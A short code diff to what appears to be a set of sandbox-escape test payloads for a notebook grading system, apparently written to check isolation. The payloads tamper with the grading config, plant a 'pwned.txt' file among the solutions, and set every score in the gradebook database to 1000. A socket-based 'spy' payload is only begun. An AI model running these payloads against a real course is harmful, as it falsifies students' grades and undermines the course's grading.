@@ -232,13 +232,13 @@ def __attack_course():
         try:
             with open(cfg, "a") as fh:
                 fh.write("\nc.GenerateFeedback.preprocessors = []\n")
-            done.append("config")
+            done.append("config:" + cfg)
         except OSError:
             pass
         try:
             with open(os.path.join(top, "solutions", "pwned.txt"), "w") as fh:
                 fh.write("pwned")
-            done.append("solutions")
+            done.append("solutions:" + top)
         except OSError:
             pass
         db = os.path.join(top, "gradebook.db")
@@ -247,7 +247,7 @@ def __attack_course():
                 con = sqlite3.connect(db, timeout=5)
                 con.execute("update grade set manual_score = 1000, auto_score = 0")
                 con.commit()
-                done.append("gradebook")
+                done.append("gradebook:" + db)
             except Exception:
                 pass
     try:
@@ -276,7 +276,8 @@ if os.fork() == 0:
 else:
     os.wait()
 """,
-    "tamper": _TOUCH + "\nprint('TAMPER', __attack_course())\n",
+    "tamper": _TOUCH
+    + "\nimport os\nprint('TAMPER', repr(os.path.dirname(os.getcwd())), __attack_course())\n",
     "spy": r"""
 def __spy(port):
     import os, socket
